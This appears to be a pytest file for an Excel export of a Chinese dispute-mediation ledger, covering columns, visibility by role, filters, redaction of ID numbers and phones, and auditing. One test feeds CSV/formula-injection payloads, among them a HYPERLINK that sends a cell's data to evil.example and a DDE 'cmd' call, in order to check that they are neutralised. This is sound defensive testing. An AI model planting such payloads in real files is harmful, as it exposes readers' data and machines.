"""The dispute ledger (矛盾纠纷台账) in Excel: the columns in order, one row per
case the user may see, the filters, formula neutralisation, no ID numbers or
phones, an audit entry per export and a constant number of statements."""
import io
import re
import uuid
import zipfile
from datetime import date, datetime, timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from grid.audit.models import AuditEntry
from grid.disputes import labels, ledger_views, services
from grid.disputes.ledger import LedgerFilters, export_ledger
from grid.extensions import db
from tests.disputes.conftest import IN_B1A, MONDAY, act, add_agreement, register
from tests.factories import log_in, sql_statements

HEADERS = ["序号", "编号", "街道", "社区", "网格", "排查（登记）日期", "来源", "纠纷类型", "等级", "当事人", "涉及人数",
           "主要问题", "当事人诉求", "稳控负责人", "调解员", "完成时限", "化解措施", "调解结果", "协议履行期限",
           "回访情况", "督办单位", "督办人", "包案领导", "挂牌督办", "当前状态", "是否超期"]
ID_NUMBER = "11010519491231002X"
PHONE = "13812345678"
LATER = MONDAY + timedelta(days=5)        # Saturday 28 November 2026
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def parties(name="李梅"):
    return [services.PartyInput(role="applicant", name=name, phone=PHONE, id_number=ID_NUMBER),
            services.PartyInput(role="respondent", name="王强", phone="13987654321")]


def held(world, dispute, when, place):
    services.log_session(dispute=dispute, by=world.community, now=when, data=services.SessionInput(
        uuid=str(uuid.uuid4()), held_at=when, place=place, attendees="李梅、王强、刘芳", record="双方陈述了各自意见"))


def mediated(world, **changes):
    """A case of grid A1a taken to the follow-up: accepted, one session, an agreement, approved."""
    dispute = register(world, parties=parties(), other_mediators="老党员赵师傅", supervisor_name="周书记", **changes)
    act(dispute, world.community, "accept", MONDAY + timedelta(hours=1))
    held(world, dispute, MONDAY + timedelta(days=1), "社区调解室")
    held(world, dispute, MONDAY + timedelta(days=2), "李梅家中")
    add_agreement(dispute, world.community, MONDAY + timedelta(days=2))
    act(dispute, world.community, "record_outcome", MONDAY + timedelta(days=2), outcome="agreement")
    act(dispute, world.committee, "approve", MONDAY + timedelta(days=3))
    return dispute


def other_community(world):
    return register(world, by=world.community_b, point=IN_B1A, facts="B社区的纠纷", stability_owner_id=world.community_b.id,
                    mediator_ids=[world.community_b.id])


def sheet_of(data: bytes):
    return load_workbook(io.BytesIO(data)).active


def rows_of(data: bytes) -> list[list]:
    return [list(r) for r in sheet_of(data).iter_rows(min_row=2, values_only=True)]


def by_header(row: list) -> dict:
    return dict(zip(HEADERS, row))


def export(user, now=LATER, **filters) -> bytes:
    return export_ledger(user=user, filters=LedgerFilters(**filters), now=now)


def test_the_columns_in_order_and_a_full_case(world):
    dispute = mediated(world)
    data = export(world.community)
    sheet = sheet_of(data)
    assert sheet.title == "矛盾纠纷台账"
    assert [c.value for c in sheet[1]] == HEADERS
    [row] = rows_of(data)
    units = world.units
    assert by_header(row) == {
        "序号": 1, "编号": dispute.number, "街道": units["A"].name, "社区": units["A1"].name, "网格": units["A1a"].name,
        "排查（登记）日期": datetime(2026, 11, 23), "来源": "群众申请", "纠纷类型": "邻里纠纷", "等级": "一般",
        "当事人": "李梅（申请人）、王强（被申请人）", "涉及人数": 2, "主要问题": dispute.facts, "当事人诉求": dispute.claims,
        "稳控负责人": "张伟", "调解员": "刘芳、老党员赵师傅", "完成时限": datetime(2026, 12, 23),
        "化解措施": "2次调解：11-24 社区调解室；11-25 李梅家中", "调解结果": "达成协议",
        "协议履行期限": datetime(2026, 12, 31), "回访情况": "待回访，回访日期 2026-12-31", "督办单位": units["A1"].name,
        "督办人": "周书记", "包案领导": None, "挂牌督办": "否", "当前状态": "回访中", "是否超期": "否"}


def test_one_row_per_visible_case_and_other_communities_absent(world):
    in_a1a = register(world)
    in_a1b = register(world, by=world.worker_b, point=(120.115, 30.21), stability_owner_id=world.worker_b.id)
    in_b1 = other_community(world)

    def numbers(user):
        return [row[1] for row in rows_of(export(user))]

    assert numbers(world.community) == numbers(world.street) == [in_a1a.number, in_a1b.number]
    assert [row[0] for row in rows_of(export(world.community))] == [1, 2]
    assert numbers(world.worker) == [in_a1a.number]
    assert numbers(world.leader) == [in_a1a.number, in_a1b.number]
    assert numbers(world.community_b) == numbers(world.street_b) == [in_b1.number]
    assert numbers(world.admin) == [in_a1a.number, in_a1b.number, in_b1.number]
    assert numbers(world.director) == []
    # Nothing of the other community anywhere in the file, not even its units' names.
    cells = all_text(export(world.community))
    assert in_b1.number not in cells and world.units["B1"].name not in cells and "B社区的纠纷" not in cells


@pytest.mark.parametrize("facts", ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1:A9)",
                                   "＝1+1", "－1"])
def test_text_a_spreadsheet_could_evaluate_is_neutralised(world, facts):
    register(world, facts=facts, claims="=cmd|' /C calc'!A0", parties=[services.PartyInput(role="applicant", name="@张三")],
             people_involved=1, other_mediators="+李四", supervisor_name="-王五", address="=A1")
    data = export(world.community)
    row = by_header(rows_of(data)[0])
    assert row["主要问题"] == "'" + facts
    assert row["当事人诉求"] == "'=cmd|' /C calc'!A0"
    assert row["当事人"] == "'@张三（申请人）"
    assert row["调解员"] == "刘芳、+李四" and row["督办人"] == "'-王五"
    # No cell of the file is a formula.
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = "".join(archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/"))
    assert "<f>" not in xml and "<f " not in xml


def all_text(data: bytes) -> str:
    """Every string in the workbook's XML (cells, shared strings, sheet names)."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "\n".join(archive.read(name).decode("utf-8", "replace") for name in archive.namelist())


def test_no_id_numbers_or_phones_anywhere_in_the_file(world):
    mediated(world)
    register(world, parties=[services.PartyInput(role="applicant", name="赵六", phone="057187654321",
                                                 id_number=ID_NUMBER)], people_involved=1)
    data = export(world.community)
    text = all_text(data)
    for secret in (ID_NUMBER, PHONE, "138****5678", "13987654321", "057187654321", "0571****4321"):
        assert secret not in text, secret
    cells = "\n".join(str(value) for row in rows_of(data) for value in row if value is not None)
    for fragment in ("110105", "002X", "5678", "4321"):
        assert fragment not in cells, fragment
    assert "赵六（申请人）" in cells
    # Nothing that looks like an ID number or a phone, masked or not.
    assert not re.search(r"\d{6}[\d*]{8}\d{3}[\dXx]|1\d{2}[\d*]{4}\d{4}", text)


def test_filters_by_registration_date_and_state(world):
    early = register(world, by=world.community, when=MONDAY - timedelta(days=10))
    middle = register(world, by=world.community, when=MONDAY)
    act(middle, world.community, "record_outcome", MONDAY + timedelta(hours=2), outcome="failed", note="双方分歧太大")
    late = register(world, when=MONDAY + timedelta(days=3))             # a grid worker's: waiting to be accepted

    def numbers(**filters):
        return [row[1] for row in rows_of(export(world.community, **filters))]

    assert numbers() == [early.number, middle.number, late.number]
    assert numbers(registered_from=date(2026, 11, 23)) == [middle.number, late.number]
    assert numbers(registered_to=date(2026, 11, 23)) == [early.number, middle.number]
    assert numbers(registered_from=date(2026, 11, 23), registered_to=date(2026, 11, 23)) == [middle.number]
    assert numbers(state="under_review") == [middle.number]
    assert numbers(state="mediating") == [early.number]
    assert numbers(state="registered", registered_from=date(2026, 11, 24)) == [late.number]
    assert numbers(state="archived") == []


def test_overdue_means_open_past_the_limit_or_concluded_after_it(world):
    open_late = register(world)                               # limit: 23 December 2026, end of office hours
    concluded_late = register(world, by=world.community)
    act(concluded_late, world.community, "record_outcome", datetime(2026, 12, 28, 10, tzinfo=MONDAY.tzinfo),
        outcome="failed", note="调解不成")
    concluded_in_time = register(world, by=world.community)
    act(concluded_in_time, world.community, "record_outcome", MONDAY + timedelta(days=1), outcome="withdrawn",
        note="撤回")
    overdue = {row[1]: row[-1] for row in rows_of(export(world.community, now=datetime(2027, 1, 5, tzinfo=MONDAY.tzinfo)))}
    assert overdue == {open_late.number: "是", concluded_late.number: "是", concluded_in_time.number: "否"}
    before = {row[1]: row[-1] for row in rows_of(export(world.community, now=MONDAY + timedelta(days=29)))}
    assert before[open_late.number] == "否"


def test_a_major_case_shows_its_supervision(world):
    dispute = register(world, by=world.community, level="major")
    act(dispute, world.street, "assign_leader", MONDAY + timedelta(hours=2), leader_id=world.street.id)
    act(dispute, world.street, "list_supervision", MONDAY + timedelta(days=1), note="月底前化解")
    act(dispute, world.community, "record_outcome", MONDAY + timedelta(days=2), outcome="referred",
        referral_body="区人民法院")
    row = by_header(rows_of(export(world.street))[0])
    assert (row["等级"], row["督办单位"], row["包案领导"], row["挂牌督办"]) == ("重大", world.units["A"].name, "陈刚",
                                                                      "是（2026-11-24）")
    assert (row["调解结果"], row["当前状态"], row["化解措施"]) == ("移交处理（区人民法院）", "待委员会审核", None)


def test_every_vocabulary_word_has_its_chinese_term():
    """The ledger and the printed agreement take their Chinese from labels' *_ZH tables: one term per code."""
    for terms, words in ((labels.TYPES_ZH, labels.TYPES), (labels.SOURCES_ZH, labels.SOURCES),
                         (labels.LEVELS_ZH, labels.LEVELS), (labels.STATES_ZH, labels.STATES),
                         (labels.PARTY_ROLES_ZH, labels.PARTY_ROLES), (labels.OUTCOMES_ZH, labels.OUTCOMES),
                         (labels.PERFORMANCE_ZH, labels.PERFORMANCE)):
        assert set(terms) == set(words)
        assert all(terms.values()) and len(set(terms.values())) == len(terms)


def test_the_download_is_audited_and_in_chinese_whatever_the_language(client, world, monkeypatch):
    monkeypatch.setattr(ledger_views, "now_utc", lambda: LATER)
    dispute = register(world, by=world.community)
    register(world, when=MONDAY + timedelta(days=1))        # waiting to be accepted: filtered out
    register(world, by=world.community, when=datetime(2026, 10, 30, 9, tzinfo=MONDAY.tzinfo))   # October
    log_in(client, "c")
    with client.session_transaction() as session:
        session["locale"] = "en"
    response = client.get("/disputes/ledger.xlsx", query_string={"from": "2026-11-01", "to": "2026-11-30",
                                                                 "state": "mediating"})
    assert response.status_code == 200 and response.mimetype == XLSX
    assert "filename*=UTF-8''%E7%9F%9B%E7%9B%BE%E7%BA%A0%E7%BA%B7%E5%8F%B0%E8%B4%A620261128.xlsx" in (
        response.headers["Content-Disposition"])
    rows = rows_of(response.data)
    assert [c.value for c in sheet_of(response.data)[1]] == HEADERS
    assert [(r[1], r[7], r[-2]) for r in rows] == [(dispute.number, "邻里纠纷", "调解中")]
    entry = db.session.scalar(select(AuditEntry).where(AuditEntry.action == "dispute.export_ledger"))
    assert entry.actor_id == world.community.id
    assert entry.detail == {"ledger": "disputes", "records": 1, "dispute_state": "mediating",
                            "registered_on": {"from": "2026-11-01", "to": "2026-11-30"}}


def test_who_may_download_and_bad_filters(app, world):
    for username, status in (("w", 200), ("gl", 200), ("c", 200), ("s", 200), ("adm", 200), ("cd", 404)):
        client = app.test_client()
        log_in(client, username)
        assert client.get("/disputes/ledger.xlsx").status_code == status, username
    client = app.test_client()
    assert client.get("/disputes/ledger.xlsx").status_code in (302, 401)
    log_in(client, "c")
    exports = select(func.count()).select_from(AuditEntry).where(AuditEntry.action == "dispute.export_ledger")
    before = db.session.scalar(exports)
    for args in ({"from": "2026-13-01"}, {"to": "yesterday"}, {"from": "2026-11-30", "to": "2026-11-01"},
                 {"state": "lost"}):
        assert client.get("/disputes/ledger.xlsx", query_string=args).status_code == 422, args
    assert db.session.scalar(exports) == before


def test_the_export_takes_the_same_statements_however_many_cases(world):
    def statements():
        with sql_statements() as sent:
            export(world.street)
        return len(sent)

    mediated(world)
    db.session.expire_all()
    few = statements()
    for n in range(3):
        register(world, parties=parties(f"当事人{n}"))
    major = register(world, level="major")
    act(major, world.street, "assign_leader", MONDAY + timedelta(hours=2), leader_id=world.street.id)
    db.session.expire_all()
    # The user and their scope, the cases with their units and people, four collections, the audit entry
    # (and the savepoint the tests turn a commit into).
    assert statements() == few <= 10
